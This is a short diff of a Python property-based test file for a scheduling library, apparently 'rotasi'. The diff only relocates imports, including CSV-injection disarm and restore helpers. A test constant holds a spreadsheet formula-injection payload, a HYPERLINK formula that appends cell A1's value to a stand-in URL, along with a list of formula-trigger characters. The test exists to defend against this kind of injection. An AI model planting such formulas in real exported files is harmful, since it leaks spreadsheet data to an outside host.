@@ -13,9 +13,9 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
 from rotasi import Roster, Schedule, solve
-from rotasi.files import write_csv
-from rotasi.formulas import disarm, restore
-from rotasi.tables import read_frame
+from rotasi.tables.csv_files import write_csv
+from rotasi.tables.csv_injection import disarm, restore
+from rotasi.tables.readers import read_frame
 
 FORMULA = '=HYPERLINK("http://x/?"&A1,"klik")'
 SIGNS = "=+-@\t\r\n＝＋－＠"
